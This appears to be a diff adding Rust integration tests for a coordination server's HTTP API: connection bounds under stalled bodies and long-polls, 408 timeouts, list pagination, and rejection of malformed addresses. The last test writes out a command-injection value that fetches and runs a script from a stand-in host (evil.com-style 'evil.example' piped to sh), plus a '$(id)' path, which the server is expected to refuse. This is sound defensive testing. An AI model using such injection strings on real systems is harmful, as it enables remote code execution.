@@ -344,3 +344,174 @@ fn a_truncated_database_is_named_and_serve_refuses_it() {
         stderr(&out)
     );
 }
+
+/// Whether the server has closed `s` (or answered and closed): a read that
+/// ends, within `wait`.
+fn closed_within(s: &mut TcpStream, wait: Duration) -> Option<String> {
+    s.set_read_timeout(Some(wait)).unwrap();
+    let mut out = Vec::new();
+    match s.read_to_end(&mut out) {
+        Ok(_) => Some(String::from_utf8_lossy(&out).into_owned()),
+        Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {
+            None
+        }
+        Err(_) => Some(String::from_utf8_lossy(&out).into_owned()),
+    }
+}
+
+#[test]
+fn bodies_that_never_arrive_and_held_long_polls_count_against_the_bounds() {
+    let s = Server::start(&[]);
+    let addr = s.addr();
+    let body_promised = |c: &mut TcpStream| {
+        let _ = c.write_all(
+            b"POST /api/coord/todos HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{",
+        );
+    };
+    let long_poll = |c: &mut TcpStream| {
+        let _ = c.write_all(
+            b"GET /api/coord/messages?session=BOX/w&unread=true&wait=60 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
+        );
+    };
+    // The per-peer bound (256), filled: half held long-polls, half bodies
+    // that never finish.
+    let mut first: Vec<TcpStream> = (0..256)
+        .map(|i| {
+            let mut c = TcpStream::connect(&addr).unwrap();
+            if i % 2 == 0 {
+                long_poll(&mut c);
+            } else {
+                body_promised(&mut c);
+            }
+            c
+        })
+        .collect();
+    // Past the grace a new connection gets before it counts as quiet.
+    std::thread::sleep(Duration::from_millis(1300));
+    // 40 more: each closes one of the first — held long-polls first, each
+    // answered (empty, so its waiter asks again).
+    let more: Vec<TcpStream> = (0..40)
+        .map(|_| {
+            let mut c = TcpStream::connect(&addr).unwrap();
+            body_promised(&mut c);
+            c
+        })
+        .collect();
+    let m = Machine::remote("BOX", &s.url);
+    m.coord(&["--json", "status"]).assert().success();
+    // The oldest held long-polls were answered at once (they asked to be
+    // held 60 s), with nothing new.
+    let mut answered_empty = 0;
+    for c in first.iter_mut().take(100).step_by(2) {
+        if let Some(text) = closed_within(c, Duration::from_millis(500))
+            && text.starts_with("HTTP/1.1 200")
+            && text.ends_with("[]")
+        {
+            answered_empty += 1;
+        }
+    }
+    assert!(answered_empty >= 40, "{answered_empty} long-polls answered early");
+    drop(more);
+}
+
+#[test]
+fn a_body_that_never_arrives_gets_408() {
+    let s = Server::start(&[]);
+    let (code, body) = raw_http(
+        &s.addr(),
+        b"POST /api/coord/todos HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"text\":",
+    );
+    assert_eq!(code, Some(408), "{body}");
+    assert!(body.contains("did not arrive"), "{body}");
+}
+
+#[test]
+fn every_list_endpoint_is_bounded_and_counts_what_it_left_out() {
+    let s = Server::start(&[]);
+    let m = Machine::remote("BOX", &s.url);
+    m.arrive(None);
+    {
+        use coord_hook::backend::Coord;
+        let c = coord_hook::backend::http::HttpCoord::new(&s.url, None, Duration::from_secs(5));
+        for i in 0..150 {
+            c.write(
+                &coord_hook::model::Write::AddTodo(coord_hook::model::NewTodo {
+                    text: format!("todo {i}"),
+                    user: None,
+                    project: None,
+                    parent_id: None,
+                    source: None,
+                    auto: false,
+                    created_by_user: "u".into(),
+                    created_by_machine: "BOX".into(),
+                }),
+                None,
+            )
+            .unwrap();
+        }
+    }
+    let agent: ureq::Agent = ureq::Agent::config_builder()
+        .http_status_as_error(false)
+        .build()
+        .into();
+    let get = |q: &str| {
+        let mut r = agent.get(&format!("{}/api/coord{q}", s.url)).call().unwrap();
+        let status = r.status().as_u16();
+        let total = r
+            .headers()
+            .get("x-total-count")
+            .and_then(|v| v.to_str().ok())
+            .map(str::to_string);
+        let v: Value = serde_json::from_str(&r.body_mut().read_to_string().unwrap()).unwrap();
+        (status, total, v)
+    };
+    let (status, total, v) = get("/todos");
+    assert_eq!(status, 200);
+    assert_eq!(v.as_array().unwrap().len(), 100);
+    assert_eq!(total.as_deref(), Some("150"));
+    let last = v[99]["id"].as_i64().unwrap();
+    let (_, total, rest) = get(&format!("/todos?after_id={last}&limit=1000"));
+    assert_eq!(rest.as_array().unwrap().len(), 50);
+    assert_eq!(total.as_deref(), Some("50"));
+    for q in ["/todos?limit=1001", "/locks?limit=0", "/sessions?limit=x", "/todos?after_id=x"] {
+        let (status, _, v) = get(q);
+        assert_eq!(status, 422, "{q}: {v}");
+    }
+    let (status, total, _) = get("/locks");
+    assert_eq!((status, total.as_deref()), (200, Some("0")));
+    let (status, total, v) = get("/sessions?limit=1");
+    assert_eq!((status, total.as_deref()), (200, Some("1")));
+    assert_eq!(v.as_array().unwrap().len(), 1);
+    // The CLI still lists them all.
+    let all = m.json(None, &["todo", "list"]);
+    assert_eq!(all.as_array().unwrap().len(), 150);
+}
+
+#[test]
+fn addresses_outside_the_grammar_are_refused_by_client_and_server_alike() {
+    let s = Server::start(&[]);
+    let m = Machine::remote("BOX", &s.url);
+    m.arrive(None);
+    for to in ["/x", "x/", "BOX/x/y", "ＡＬＬ", "ВОХ", "ſerver", "BOX/a\u{1}b"] {
+        let out = m.coord(&["msg", "send", to, "x", "--force"]).output().unwrap();
+        assert_eq!(out.status.code(), Some(2), "{to}: {}", stderr(&out));
+        assert!(stderr(&out).contains("recipient"), "{}", stderr(&out));
+    }
+    let evil = "EVIL/$(curl${IFS}-s${IFS}evil.example|sh)";
+    let (code, body) = post(
+        &s.addr(),
+        "/messages",
+        &serde_json::json!({"to_session": "BOX/claude-main", "body": "hi", "from_session": evil,
+            "created_by_user": "u", "created_by_machine": "EVIL"})
+        .to_string(),
+    );
+    assert_eq!(code, Some(422), "{body}");
+    assert!(body.contains("from_session"), "{body}");
+    let (code, body) = raw_http(
+        &s.addr(),
+        b"PUT /api/coord/sessions/EVIL%2F%24(id) HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 12\r\nConnection: close\r\n\r\n{\"user\":\"x\"}",
+    );
+    assert_eq!(code, Some(422), "{body}");
+    let sessions = m.json(None, &["sessions", "--all"]);
+    assert!(!sessions.to_string().contains("EVIL"), "{sessions}");
+}
